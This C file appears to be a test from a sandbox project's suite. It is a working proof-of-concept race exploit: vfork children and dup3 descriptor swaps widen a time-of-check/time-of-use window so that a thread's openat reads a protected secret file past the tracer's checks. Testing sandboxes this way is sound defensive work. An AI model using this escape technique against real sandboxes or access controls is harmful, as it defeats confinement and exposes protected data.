/* race_vfork: a vfork parent woken while the tracer still takes it for waiting -- it runs
 * beside another task's call that the tree is frozen for.
 *
 *   race_vfork exit|thread SECRET WORK [ITERATIONS [SECONDS]]
 *
 * A call whose canonical name no absolute spelling can give (a directory deeper than
 * PATH_MAX) keeps its own spelling and dirfd and runs with every other task stopped
 * (enforce.Holder.respelled, Tracer._freeze) -- except a vfork parent, which waits in the
 * kernel for its child.  But the parent runs again as soon as its child releases the memory
 * (exit_mm, early in do_exit), while the tracer hears of it only at the child's exit report.
 * So: thread T opens "secret.txt" relative to descriptor N, a directory below WORK deeper
 * than PATH_MAX holding a harmless file of that name; the main thread vforks children that
 * _exit at once and, each time the vfork returns, dup2s SECRET's directory onto N and back.
 * A freeze that takes the parent for waiting lets that dup2 land after the check and its
 * re-check, and T's openat then opens SECRET.  (The children inherit a few thousand
 * descriptors: closing them as they exit, after exit_mm, widens the window.)  Natively the
 * dup2 race alone wins.
 * Class 2 (races between check and use).
 */
#include "race.h"

#include <libgen.h>
#include <sched.h>

static int target;           /* the descriptor T's openat is relative to */
static const char *base;     /* the last name: SECRET's, and the decoy's */
static volatile int stop;
static volatile long opens;
static volatile pid_t child_now;  /* the child of the vfork in progress */

static void *opener(void *arg) {
    (void)arg;
    while (!stop) {
        int fd = openat(target, base, O_RDONLY | O_CLOEXEC);
        opens++;
        if (fd >= 0) {
            if (is_secret_fd(fd)) {
                stop = 1;
                if (child_now > 0)
                    kill(child_now, SIGKILL);  /* (a lingering thread would outlive us) */
                escaped("openat(N, \"%s\") gave the secret after %ld opens (fd -> %s)", base,
                        opens, fd_name(fd));
            }
            close(fd);
        }
    }
    return NULL;
}

static char stack[64 * 1024];

static int linger(void *arg) {
    (void)arg;
    for (;;)
        pause();
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 4)
        usage("race_vfork exit|thread SECRET WORK [ITERATIONS [SECONDS]]");
    int lingering = strcmp(argv[1], "thread") == 0;
    argv++;
    argc--;
    struct budget b;
    budget_args(&b, argc, argv, 3);
    char tmp[4096];
    snprintf(tmp, sizeof tmp, "%s", argv[1]);
    int secd = open(dirname(tmp), O_PATH | O_DIRECTORY | O_CLOEXEC);
    snprintf(tmp, sizeof tmp, "%s", argv[1]);
    base = strdup(basename(tmp));
    int dir = open(argv[2], O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (secd < 0 || dir < 0)
        blocked("open the directories: %s", ename(errno));
    char name[201];
    memset(name, 'd', 200);
    name[200] = 0;
    for (int depth = 0; depth < 24; depth++) {  /* 24 * 201 bytes: beyond PATH_MAX */
        if (mkdirat(dir, name, 0755) < 0 && errno != EEXIST)
            blocked("mkdirat at depth %d: %s", depth, ename(errno));
        int next = openat(dir, name, O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (next < 0)
            blocked("openat at depth %d: %s", depth, ename(errno));
        close(dir);
        dir = next;
    }
    int decoy = openat(dir, base, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (decoy < 0 || write(decoy, "public, harmless\n", 17) != 17)
        blocked("the decoy: %s", ename(errno));
    close(decoy);
    target = dir;
    int deep = dup(dir);
    /* descriptors for each child to close as it exits (exit_files, after exit_mm): the
     * parent runs again that much longer before the child's exit is reported */
    for (int i = 0; i < 4000; i++)
        if (dup(deep) < 0)
            break;
    pthread_t t;
    pthread_create(&t, NULL, opener, NULL);
    wait_for_peer(&opens);
    long forks = 0;
    while (!stop && budget_left(&b)) {
        pid_t child = vfork();
        if (child == 0) {
            if (lingering) {
                /* a thread of the child's own, then the child (its leader) exits alone: the
                 * memory is let go, the parent runs -- and a leader's exit is reported only
                 * with its group's, so the tracer never hears of it while the thread lives */
                if (clone(linger, stack + sizeof stack, CLONE_VM | CLONE_THREAD |
                          CLONE_SIGHAND | CLONE_FS | CLONE_FILES, NULL) < 0)
                    _exit(1);
                syscall(SYS_exit, 0);
            }
            _exit(0);
        }
        if (child < 0)
            blocked("vfork: %s", ename(errno));
        forks++;
        child_now = child;
        /* until the child is reaped (the tracer reaps it first, and so hears of it) */
        do {
            dup3(secd, target, O_CLOEXEC);
            dup3(deep, target, O_CLOEXEC);
        } while (!stop && waitpid(child, NULL, WNOHANG) == 0 && now_s() - b.start < b.seconds);
        if (lingering) {
            kill(child, SIGKILL);
            waitpid(child, NULL, 0);
        }
        child_now = 0;
    }
    stop = 1;
    pthread_join(t, NULL);
    blocked("%ld vforks, %ld opens: never the secret", forks, opens);
}
